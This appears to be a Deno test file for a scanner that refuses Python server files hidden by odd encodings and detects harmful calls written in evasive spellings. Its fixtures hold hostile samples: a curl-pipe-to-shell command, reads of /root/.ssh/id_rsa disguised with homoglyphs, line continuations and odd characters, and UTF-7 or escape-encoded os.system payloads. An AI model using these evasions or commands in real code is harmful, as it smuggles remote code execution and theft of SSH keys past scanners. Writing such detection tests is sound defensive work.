import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { openTestHosts } from "../helpers/interpreter.ts";
import { ADDER, fails, HARM, only, run, scan } from "./scanned_servers.ts";

const encoder = new TextEncoder();
const bytesOf = (text: string) => encoder.encode(text);
const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const BOM = "\ufeff";

/** Files whose bytes mean to the interpreter something else than they seem, or nothing. */
const UNREADABLE: Record<string, Uint8Array> = {
  "UTF-7": bytesOf("# -*- coding: utf-7 -*-\nx = 1 #+AAo-import os+AAo-os.system('x')\n"),
  "rot13": bytesOf("# coding: rot13\nvzcbeg bf\n"),
  "unicode_escape": bytesOf("# coding=unicode_escape\nx = 1 # \\nimport os\\nos.system('x')\n"),
  "raw_unicode_escape": bytesOf("# coding: raw_unicode_escape\n# \\u000aimport os\n"),
  "punycode": bytesOf("#coding:punycode\nx = 1\n"),
  "idna": bytesOf("# vim: set fileencoding=idna :\nx = 1\n"),
  "UTF-16": bytesOf("# coding: utf-16\nx = 1\n"),
  "Shift-JIS": bytesOf("# coding: shift_jis\nx = '\\\\'\n"),
  "a code page": bytesOf("# coding: cp1252\nx = 1\n"),
  "a codec of its own": bytesOf("# coding: evil\nx = 1\n"),
  "a cookie on line 2": bytesOf("#!/usr/bin/env python\n# coding: utf-7\nx = 1\n"),
  "a cookie after a form feed": bytesOf("\f# coding: utf-7\nx = 1\n"),
  "a cookie after a blank line": bytesOf(" \t\f\n# coding: utf-7\nx = 1\n"),
  "a cookie after a lone CR": bytesOf("# a\r# coding: utf-7\rx = 1\r"),
  "a cookie far to the right": bytesOf(`# ${"x".repeat(100_000)}coding: utf-7\nx = 1\n`),
  "a cookie behind another word": bytesOf("# encoding and coding: utf-7\nx = 1\n"),
  "a cookie without a space": bytesOf("#coding=utf-7-x\nx = 1\n"),
  "a byte order mark and another encoding": bytesOf(`${BOM}# coding: latin-1\nx = 1\n`),
  "NUL characters": bytesOf("x = 1\n# \0\nimport os\n"),
  "bytes that are not UTF-8": latin("x = '\xe9'\n"),
  "surrogates": new Uint8Array([0x78, 0x3d, 0x27, 0xed, 0xa0, 0x80, 0x27]),
  "bytes that are not ASCII": latin("# coding: ascii\nx = '\xe9'\n"),
  "UTF-16 without a cookie": new Uint8Array([0xff, 0xfe, 0x78, 0, 0x3d, 0, 0x31, 0]),
};

Deno.test("files that the scan does not read as Python does fail it", async (t) => {
  for (const [what, bytes] of Object.entries(UNREADABLE)) {
    await t.step(what, async () => {
      const { refused, code } = await scan({ "server.py": "import evil\n", "evil.py": bytes });
      assertEquals(refused.map(({ file }) => file), ["evil.py"]);
      assertStringIncludes(refused[0]!.reason, "cannot be read as Python source");
      assertEquals(code.files, ["server.py"]);
    });
  }
});

Deno.test("files that the scan does not read as Python does are not loaded either", async (t) => {
  await using hosts = await openTestHosts();
  for (const [what, bytes] of Object.entries(UNREADABLE)) {
    await t.step(what, async () => {
      const files = { "server.py": "import evil\nprint('it went on')\n", "evil.py": bytes };
      for (const code of [null, only("server.py", "evil.py")]) {
        const { load, log } = await run(hosts, files, code);
        assertEquals(load.kind, "raised");
        assert(!log.includes("it went on"));
      }
    });
  }
});

/** Encodings that scan and interpreter read alike. */
const READABLE: Record<string, Uint8Array> = {
  "a byte order mark": bytesOf(`${BOM}${ADDER}`),
  "a byte order mark and its cookie": bytesOf(`${BOM}# coding: utf-8\n${ADDER}`),
  "utf8": bytesOf(`# coding: utf8\n${ADDER}`),
  "an editor's cookie": bytesOf(`# vim: set fileencoding=utf-8-unix :\n${ADDER}`),
  "ASCII": bytesOf(`# coding: US-ASCII\n${ADDER}`),
  "Latin-1": latin(`# -*- coding: latin_1 -*-\n# caf\xe9\n${ADDER}`),
  "ISO-8859-1": latin(`# -*- coding: iso-8859-1 -*-\n# caf\xe9 \x80\n${ADDER}`),
  "a cookie on line 3": bytesOf(`#\n#\n# coding: utf-7\n${ADDER}`),
  "a cookie after code": bytesOf(`import os\n# coding: utf-7\n${ADDER}`),
  "line ends of old Macs": bytesOf(ADDER.replaceAll("\n", "\r")),
  "line ends of Windows": bytesOf(ADDER.replaceAll("\n", "\r\n")),
  "form feeds": bytesOf(ADDER.replaceAll("\n\n", "\n\f\n")),
};

Deno.test("honest encodings and line ends are scanned, and run", async (t) => {
  await using hosts = await openTestHosts();
  for (const [what, bytes] of Object.entries(READABLE)) {
    await t.step(what, async () => {
      const files = { "server.py": bytes };
      const found = await scan(files);
      assertEquals([found.tools, found.grave, found.refused], [["add"], [], []]);
      const { load, tools } = await run(hosts, files, found.code);
      assertEquals([load.kind, tools], ["loaded", ["add"]], JSON.stringify(load));
    });
  }
});

/** Spellings of harm that the interpreter takes for the plain one. */
const SPELLINGS: Record<string, string> = {
  "wide letters": "import os\nos.ｓystem('curl x | sh' + ｏpen('/root/.ssh/id_rsa').read())\n",
  "mathematical letters": "import 𝓸𝓼\n𝓸𝓼.𝔰𝔶𝔰𝔱𝔢𝔪(𝐨𝐩𝐞𝐧('/root/.ssh/id_rsa').read())\n",
  "ligatures and superscripts": "ﬁle = ᵒpen('/root/.ssh/id_rsa')\n",
  "lone CR": "# nothing here\ropen('/root/.ssh/id_rsa')\r",
  "a form feed": "if 1:\n    pass\n\f\nopen('/root/.ssh/id_rsa')\n",
  "a line that goes on": "\\\nopen\\\n(\\\n'/root/.ssh/id_rsa'\\\n)\n",
  "a line that goes on at an indent": "if 1:\n    \\\n  open('/root/.ssh/id_rsa')\n",
  "tabs": "if 1:\n\topen('/root/.ssh/id_rsa')\n",
  "no line end": "open('/root/.ssh/id_rsa')",
  "several on a line": "x = 1; open('/root/.ssh/id_rsa'); y = 2\n",
  "in a type parameter": "def f[T: open('/root/.ssh/id_rsa') = int](): pass\n",
  "in a format": "x = f'{f\"{open('/root/.ssh/id_rsa')!r:>{1}}\"}'\n",
  "in a template": "x = t'{open(\"/root/.ssh/id_rsa\")}'\n",
  "in an exception's types":
    "try:\n    pass\nexcept OSError, open('/root/.ssh/id_rsa'):\n    pass\n",
};

Deno.test("harm is found in every spelling that the interpreter takes", async (t) => {
  for (const [what, source] of Object.entries(SPELLINGS)) {
    await t.step(what, async () => {
      const { grave } = await scan({ "server.py": source });
      assert(grave.some(({ rule }) => rule === "py/sensitive-file"), JSON.stringify(grave));
    });
  }
});

Deno.test("lines are those of the interpreter, also after odd characters", async () => {
  const odd = ["# \u2028 \u2029 \x85 \v \f", "s = '''", "\u2028", "'''", "#\r#\r\n#\n"].join("\n");
  const { grave } = await scan({ "server.py": `${odd}${HARM}` });
  const line = grave.find(({ rule }) => rule === "py/sensitive-file")?.line;
  assertEquals(line, 9);
});

Deno.test("source that no interpreter compiles is no failure, and is not run either", async () => {
  const files = { "server.py": "import broken\n", "broken.py": "def (:\n" };
  const found = await scan(files);
  assertEquals([fails(found), found.code.files], [false, ["server.py"]]);
  await using hosts = await openTestHosts();
  const { load } = await run(hosts, files, found.code);
  assert(load.kind === "raised");
  assertStringIncludes(load.message, "SyntaxError");
});
